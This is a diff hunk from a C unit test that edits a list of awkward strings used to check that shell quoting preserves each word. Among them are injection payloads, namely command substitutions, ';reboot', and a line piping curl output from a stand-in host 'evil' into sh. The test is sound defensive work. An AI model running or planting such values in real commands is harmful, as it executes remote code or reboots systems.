@@ -104,8 +104,7 @@ END_TEST
 static const char *const words[] = {"x", "", "-rf", "a b", "$(touch x)", "`id`",
     ";reboot", "it's", "\"", "\\", "a\nb", "\x1b[31m", "\xff\xfe", "~root", "*",
     "#", "!!", "a\xc3\xa4", "x\xe2\x80\xaey", "'; curl evil|sh; '",
-    "1234\x01"
-    "7"};
+    "1234\x01z"};
 
 /* What a real shell makes of it. */
 START_TEST(a_word_for_a_shell_is_that_word)
